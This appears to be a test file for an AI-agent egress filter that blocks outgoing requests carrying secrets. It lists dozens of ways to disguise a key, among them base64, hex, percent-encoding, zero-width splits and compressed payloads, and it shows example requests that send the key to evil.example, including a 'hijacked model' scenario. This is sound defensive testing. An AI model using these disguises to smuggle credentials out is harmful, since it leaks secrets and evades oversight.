import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from "node:zlib";
import { err, moltbotError, ok } from "@moltbot/contracts";
import type { SecretWatch } from "@moltbot/contracts";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ALL_CONTROLS } from "../create-egress.ts";
import { parseTarget } from "../parse-target.ts";
import { codeOf, get, SECRET, setUp, signal, tool } from "../test-support/set-up.ts";
import { checkOutgoing } from "./check-outgoing.ts";

const CANARY = `mbc-${"a2b3".repeat(8)}`;
const watching = (...secrets: readonly string[]) => ({
  secrets: { lendAll: (use) => ok(use(secrets)) } satisfies SecretWatch,
  isCanary: (word: string) => word === CANARY,
});

const sent = (url: string, body: string | Uint8Array | null = null, headers: Record<string, string> = {}) => {
  const target = parseTarget(url);
  if (!target.ok) throw new Error(target.error.message);
  return { target: target.value, headers, body };
};
const HOST = "http://evil.example";
const verdictOf = (secret: string, body: string | Uint8Array, headers: Record<string, string> = {}): string => {
  const checked = checkOutgoing(watching(secret), sent(`${HOST}/`, body, headers));
  return checked.ok ? "sent" : checked.error.code;
};

const KEY = "sk-live-9fQ2xR7vLm4TzB8w";
const utf8 = (text: string): Buffer => Buffer.from(text, "utf8");
const everyCode = (text: string): string =>
  [...utf8(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
const base32 = (text: string): string => {
  const bits = [...utf8(text)].map((byte) => byte.toString(2).padStart(8, "0")).join("");
  return bits.replaceAll(
    /.{1,5}/g,
    (five) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[Number.parseInt(five.padEnd(5, "0"), 2)] ?? "",
  );
};
type Disguise = readonly [name: string, of: (text: string) => string];
const DISGUISES: readonly Disguise[] = [
  ["plain", (text) => text],
  ["inside other words", (text) => `token=${text}&x=1`],
  ["percent", everyCode],
  ["percent twice", (text) => everyCode(everyCode(text))],
  ["base64", (text) => utf8(text).toString("base64")],
  ["base64url", (text) => utf8(text).toString("base64url")],
  ["base64 one byte in", (text) => utf8(`x${text}yz`).toString("base64")],
  ["base64 two bytes in", (text) => utf8(`xy${text}z`).toString("base64url")],
  ["base64 behind letters of its own alphabet", (text) => `abc${utf8(text).toString("base64")}`],
  ["base64 twice", (text) => utf8(utf8(text).toString("base64")).toString("base64")],
  ["base64 in lines", (text) => utf8(text).toString("base64").replaceAll(/.{5}/g, "$&\r\n")],
  ["base32", base32],
  ["base32 three bytes in", (text) => base32(`xyz${text}`)],
  ["hex", (text) => utf8(text).toString("hex")],
  ["capital hex", (text) => utf8(text).toString("hex").toUpperCase()],
  ["hex with colons", (text) => (utf8(text).toString("hex").match(/../g) ?? []).join(":")],
  ["hex with 0x", (text) => [...utf8(text)].map((byte) => `0x${byte.toString(16).padStart(2, "0")}`).join(", ")],
  ["hex of base64", (text) => utf8(utf8(text).toString("base64")).toString("hex")],
  ["backwards", (text) => Array.from(text).toReversed().join("")],
  ["backwards in base64", (text) => utf8(Array.from(text).toReversed().join("")).toString("base64")],
  ["base64 backwards", (text) => Array.from(utf8(text).toString("base64")).toReversed().join("")],
  ["split by dots", (text) => Array.from(text).join(".")],
  ["split by spaces and lines", (text) => Array.from(text).join(" \n")],
  ["split by zero-width spaces", (text) => Array.from(text).join("\u200b")],
  [
    "in full-width letters",
    (text) =>
      Array.from(text)
        .map((letter) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0))
        .join(""),
  ],
  ["as a JSON list of codes", (text) => JSON.stringify([...utf8(text)])],
  [
    "as escapes",
    (text) =>
      Array.from(text)
        .map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}`)
        .join(""),
  ],
  [
    "as escapes here and there",
    (text) =>
      Array.from(text)
        .map((letter, at) => (at % 2 === 0 ? `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}` : letter))
        .join(""),
  ],
  [
    "as escapes in braces",
    (text) =>
      Array.from(text)
        .map((letter) => `\\u{${letter.charCodeAt(0).toString(16)}}`)
        .join(""),
  ],
  [
    "as escapes of eight digits",
    (text) =>
      Array.from(text)
        .map((letter) => `\\U${letter.charCodeAt(0).toString(16).padStart(8, "0")}`)
        .join(""),
  ],
  [
    "as entities",
    (text) =>
      Array.from(text)
        .map((letter) => `&#${String(letter.charCodeAt(0))};`)
        .join(""),
  ],
  [
    "as quoted-printable",
    (text) => [...utf8(text)].map((byte) => `=${byte.toString(16).toUpperCase().padStart(2, "0")}`).join(""),
  ],
  ["in the parts of a JSON document", (text) => JSON.stringify({ a: text.slice(0, 7), b: { c: [text.slice(7)] } })],
  [
    "in the fields of a form",
    (text) => `first=${encodeURIComponent(text.slice(0, 7))}&second=${encodeURIComponent(text.slice(7))}`,
  ],
  [
    "in a JSON document between parts that are no text",
    (text) => JSON.stringify({ a: text.slice(0, 7), none: null, sure: true, b: [text.slice(7)] }),
  ],
  ["as two bytes a letter in base64", (text) => Buffer.from(text, "utf16le").toString("base64")],
  ["gzip in base64", (text) => gzipSync(text).toString("base64")],
];

const isDocument = (name: string): boolean => / a (?:form|JSON document)\b/.test(name);

describe("what leaves", () => {
  it.each(DISGUISES)("carries no secret that is disguised: %s", (_name, of) => {
    expect(verdictOf(KEY, of(KEY))).toBe("REQUEST_CARRIES_SECRET");
  });

  it.each(DISGUISES)("carries no canary that is disguised: %s", (_name, of) => {
    expect(verdictOf(KEY, of(CANARY))).toBe("REQUEST_CARRIES_SECRET");
  });

  it("carries no secret however it is disguised once more, wherever it stands", () => {
    const onTop = DISGUISES.filter(([name]) => ["percent", "base64", "base64 one byte in", "hex"].includes(name));
    const letters = fc.string({
      unit: fc.constantFrom(...Array.from("abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789-_")),
      minLength: 16,
      maxLength: 40,
    });
    const around = fc.string({ unit: fc.constantFrom(...Array.from(" {}\"',;!?\n")), maxLength: 20 });
    fc.assert(
      fc.property(
        letters,
        fc.constantFrom(...DISGUISES),
        fc.constantFrom(...onTop),
        around,
        around,
        (secret, [name, inner], [onTopName, outer], before, after) => {
          fc.pre(secret.replace(/[-_]/g, "").length >= 12);
          expect(verdictOf(secret, inner(secret))).toBe("REQUEST_CARRIES_SECRET");
          // These leave words joined to a document, and then it is none whose parts could be put together.
          if (isDocument(name) && ["percent", "base64 one byte in"].includes(onTopName)) return;
          expect(verdictOf(secret, before + outer(inner(secret)) + after)).toBe("REQUEST_CARRIES_SECRET");
        },
      ),
      { numRuns: 150, seed: 7 },
    );
  });

  it("says where it stood, and neither which secret it was nor a letter of it", () => {
    const places = [
      checkOutgoing(watching(KEY), sent(`${HOST}/${KEY}`)),
      checkOutgoing(watching(KEY), sent(`http://${utf8("sk-lettersonly12").toString("hex")}.evil.example/`)),
      checkOutgoing(
        watching("sk-lettersonly12"),
        sent(`http://${utf8("sk-lettersonly12").toString("hex")}.evil.example/`),
      ),
      checkOutgoing(watching(KEY), sent(`${HOST}/?a=${KEY.slice(0, 9)}&b=${KEY.slice(9)}`)),
      checkOutgoing(watching(KEY), sent(`${HOST}/`, null, { "x-note": KEY })),
      checkOutgoing(watching(KEY), sent(`${HOST}/`, null, { "x-a": KEY.slice(0, 9), "x-b": KEY.slice(9) })),
      checkOutgoing(watching(KEY), sent(`${HOST}/?a=${KEY.slice(0, 9)}`, KEY.slice(9))),
    ];
    expect(places.map((one) => (one.ok ? "sent" : one.error.context["where"]))).toEqual([
      "address",
      "sent",
      "address",
      "address",
      "headers",
      "headers",
      "body",
    ]);
    expect(JSON.stringify(places)).not.toContain(KEY);
  });

  it("carries no long part of a key either, and any other key's beginning means nothing", () => {
    const line = (seed: number): string =>
      Array.from(
        { length: 64 },
        (_, at) =>
          "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[(seed * 31 + at * at * 7 + at) % 64],
      ).join("");
    const start = `MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ${"C".repeat(14)}`;
    const pem = ["-----BEGIN PRIVATE KEY-----", start, line(1), line(2), line(3), "-----END PRIVATE KEY-----", ""].join(
      "\n",
    );
    expect(verdictOf(pem, pem)).toBe("REQUEST_CARRIES_SECRET");
    expect(verdictOf(pem, `${line(2)}`)).toBe("REQUEST_CARRIES_SECRET");
    expect(verdictOf(pem, utf8(line(3)).toString("base64"))).toBe("REQUEST_CARRIES_SECRET");
    expect(verdictOf(pem, `-----BEGIN PRIVATE KEY-----\n${start}\n`)).toBe("sent");
  });

  it("is opened where it is compressed, and refused where it cannot be", () => {
    for (const [encoding, pack] of [
      ["gzip", gzipSync],
      ["deflate", deflateSync],
      ["br", brotliCompressSync],
      ["zstd", zstdCompressSync],
    ] as const) {
      expect(verdictOf(KEY, pack(`{"key":"${KEY}"}`), { "content-encoding": encoding })).toBe("REQUEST_CARRIES_SECRET");
      expect(verdictOf(KEY, pack(`{"key":"none of ours"}`), { "content-encoding": encoding })).toBe("sent");
      expect(verdictOf(KEY, utf8("\x00broken"), { "content-encoding": encoding })).toBe("REQUEST_UNCHECKED");
    }
    expect(verdictOf(KEY, gzipSync(gzipSync(KEY)))).toBe("REQUEST_CARRIES_SECRET");
    expect(verdictOf(KEY, gzipSync(KEY).subarray(0, -9))).toBe("REQUEST_CARRIES_SECRET");
    expect(verdictOf(KEY, gzipSync(KEY).fill(7, 10))).toBe("REQUEST_UNCHECKED");
    expect(verdictOf(KEY, gzipSync(Buffer.alloc(8_000_000)))).toBe("REQUEST_UNCHECKED");
    expect(verdictOf(KEY, utf8("PK\x03\x04 an archive"))).toBe("REQUEST_UNCHECKED");
    expect(verdictOf(KEY, "x", { "content-encoding": "aes128gcm" })).toBe("REQUEST_UNCHECKED");
    expect(verdictOf(KEY, Buffer.alloc(131_073, "a"))).toBe("REQUEST_UNCHECKED");
  });

  it("carries no secret in what compressed data has beside its content: a name in front, and what is behind", () => {
    const twice = utf8(utf8(utf8(KEY).toString("base64")).toString("base64"));
    const gzip = gzipSync("hi");
    // RFC 1952: the fourth byte says that a name follows the head of ten bytes.
    const named = Buffer.concat([
      gzip.subarray(0, 3),
      Buffer.from([8]),
      gzip.subarray(4, 10),
      twice,
      Buffer.from([0]),
      gzip.subarray(10),
    ]);
    expect(verdictOf(KEY, named)).toBe("REQUEST_CARRIES_SECRET");
    for (const pack of [deflateSync, zstdCompressSync]) {
      expect(verdictOf(KEY, Buffer.concat([pack("hi"), twice]))).toBe("REQUEST_CARRIES_SECRET");
      expect(verdictOf(KEY, Buffer.concat([pack("hi"), utf8(" and good-bye")]))).toBe("sent");
    }
    expect(verdictOf(KEY, Buffer.concat([gzip, twice]))).not.toBe("sent");
  });

  it("may begin like compressed data without being any, and is read as the text that it is", () => {
    const powers = "x^2 + 3x + 2 has two roots";
    expect(verdictOf(KEY, powers)).toBe("sent");
    expect(verdictOf(KEY, `${powers}, ${utf8(utf8(KEY).toString("base64")).toString("hex")}`)).toBe(
      "REQUEST_CARRIES_SECRET",
    );
  });

  it("carries no secret of other letters than English has, spelled in their codes, and no code that is none stops the reading", () => {
    const secret = "Schlüssel-für-Łódź-7";
    const codes = Array.from(secret, (letter) => letter.codePointAt(0) ?? 0);
    const entities = codes.map((code) => `&#${String(code)};`).join("");
    const hex = codes.map((code) => `&#x${code.toString(16)};`).join("");
    const escaped = codes.map((code) => `\\u${code.toString(16).padStart(4, "0")}`).join("");
    for (const text of [secret, entities, hex, escaped]) expect(verdictOf(secret, text)).toBe("REQUEST_CARRIES_SECRET");
    // No letter has this code: whoever reads it leaves it out.
    expect(verdictOf(secret, entities.replaceAll(";", ";&#9999999;"))).toBe("REQUEST_CARRIES_SECRET");
    expect(verdictOf(secret, "&#9999999; &#xffffff; \\u{ffffff} &#8222;good morning&#8220;")).toBe("sent");
  });

  it("may be ordinary: long texts, pictures' bytes, other people's keys", () => {
    const prose = "The quick brown fox met a lazy dog at 10:45, and said: “good morning”. ".repeat(800);
    expect(verdictOf(KEY, prose)).toBe("sent");
    expect(verdictOf(KEY, JSON.stringify({ notes: [prose.slice(0, 2000)], key: "sk-live-0000000000000000" }))).toBe(
      "sent",
    );
    const noise = Uint8Array.from({ length: 40_000 }, (_, at) => (Math.imul(at + 1, 2_654_435_761) >>> 13) & 0xff);
    expect(verdictOf(KEY, noise)).toBe("sent");
    expect(verdictOf("abc", "abc is too short to be sought")).toBe("sent");
  });

  it("is refused when the vault does not lend", () => {
    const locked = {
      ...watching(),
      secrets: { lendAll: () => err(moltbotError("VAULT_LOCKED", { problem: "it was closed" })) },
    };
    const checked = checkOutgoing(locked, sent(`${HOST}/`));
    expect(!checked.ok && checked.error.code).toBe("VAULT_LOCKED");
  });
});

describe("a hijacked model", () => {
  const attempts = [
    get(`http://example.org/?q=${utf8(SECRET).toString("base64url")}`),
    get("http://example.org/", { headers: { "x-note": Array.from(SECRET).toReversed().join("") } }),
    { method: "POST" as const, url: "http://example.org/", body: utf8(SECRET).toString("hex") },
    { method: "POST" as const, url: "http://example.org/", body: `see ${CANARY}` },
  ];

  it("sends no secret and no canary: the other side does not even hear a connection", async () => {
    const { world, egress } = await setUp((_request, response) => response.end(), {
      isCanary: (word) => word === CANARY,
    });
    for (const attempt of attempts)
      expect(codeOf(await egress.send(tool("example.org:80"), attempt, signal))).toBe("REQUEST_CARRIES_SECRET");
    const fetching = egress.fetchFor(tool("example.org:80"), null)("http://example.org/", {
      method: "POST",
      body: SECRET,
    });
    await expect(fetching).rejects.toMatchObject({ error: { code: "REQUEST_CARRIES_SECRET" } });
    expect(world.dialled).toEqual([]);
    expect(world.connections()).toBe(0);
  });

  it("does not get one carried on by a redirect", async () => {
    const { world, egress } = await setUp((request, response) => {
      if (request.url === "/start") response.writeHead(302, { location: `/?again=${SECRET}` }).end();
      else response.end();
    });
    expect(codeOf(await egress.send(tool("example.org:80"), get("http://example.org/start"), signal))).toBe(
      "REQUEST_CARRIES_SECRET",
    );
    expect(world.hits.map(({ url }) => url)).toEqual(["/start"]);
  });

  it("unplug: without the check each of them arrives", async () => {
    const { world, egress } = await setUp((_request, response) => response.end(), {
      controls: { checkOutgoing: () => ok(undefined) },
    });
    for (const attempt of attempts) await egress.send(tool("example.org:80"), attempt, signal);
    expect(world.hits).toHaveLength(attempts.length);
    expect(world.hits[0]?.url).toContain(utf8(SECRET).toString("base64url"));
    expect(ALL_CONTROLS.checkOutgoing).toBe(checkOutgoing);
  });
});
